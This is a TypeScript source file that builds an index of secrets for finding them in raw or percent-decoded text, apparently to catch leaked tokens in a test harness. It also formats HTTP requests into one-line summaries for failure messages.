const MIN_SECRET = 16;
const isWordChar = (code: number) => (code >= 48 && code <= 57) || (code >= 65 && code <= 90) || (code >= 97 && code <= 122);

/**
 * Every secret of the run, indexed by its first 16 characters, so a text is scanned once: at each
 * place a run of base64/base64url characters could start a secret (not glued to a letter or digit
 * before it), one lookup. Texts are scanned raw and percent-decoded.
 */
export class SecretIndex {
  private readonly byPrefix = new Map<string, { secret: string; label: string }[]>();
  private count = 0;

  add(secret: string, label: string): void {
    if (secret.length < MIN_SECRET) return;
    const key = secret.slice(0, MIN_SECRET);
    const list = this.byPrefix.get(key) ?? [];
    if (list.some((s) => s.secret === secret)) return;
    list.push({ secret, label });
    this.byPrefix.set(key, list);
    this.count += 1;
  }

  get size(): number {
    return this.count;
  }

  /** The labels of the secrets found in `text`, with where. */
  find(text: string): { label: string; at: number }[] {
    const found: { label: string; at: number }[] = [];
    for (const candidate of [text, percentDecoded(text)]) {
      for (let p = 0; p + MIN_SECRET <= candidate.length; p++) {
        if (p > 0 && isWordChar(candidate.charCodeAt(p - 1))) continue;
        const list = this.byPrefix.get(candidate.slice(p, p + MIN_SECRET));
        if (!list) continue;
        // The longest secret found here: a truncated wrong token is a prefix of the real one.
        let longest: { secret: string; label: string } | undefined;
        for (const entry of list) if (candidate.startsWith(entry.secret, p) && entry.secret.length > (longest?.secret.length ?? 0)) longest = entry;
        if (longest) found.push({ label: longest.label, at: p });
      }
      if (found.length > 0) break;
    }
    return found;
  }
}

function percentDecoded(text: string): string {
  return text.includes('%') ? text.replace(/%([0-9A-Fa-f]{2})/g, (_m, hex: string) => String.fromCharCode(parseInt(hex, 16))) : text;
}

/** A one-line account of a request for a failure message: enough to send it again by hand. */
export function describeWire(wire: WireRequest): string {
  const headers = wire.headers.map(([n, v]) => `${n}: ${JSON.stringify(v.length > 120 ? `${v.slice(0, 120)}…(${v.length})` : v).slice(1, -1)}`).join(' | ');
  const body = wire.body === null ? '' : ` body(${wire.body.length}${wire.chunked ? ', chunked' : ''})=${JSON.stringify(wire.body.subarray(0, 300).toString('latin1'))}`;
  const raw = wire.raw ? ` [raw ${wire.raw.version}${wire.raw.lineEnd === '\n' ? ' LF' : ''}]` : '';
  return `${wire.method} ${JSON.stringify(wire.target.length > 300 ? `${wire.target.slice(0, 300)}…` : wire.target)}${raw} {${headers}}${body}`;
}
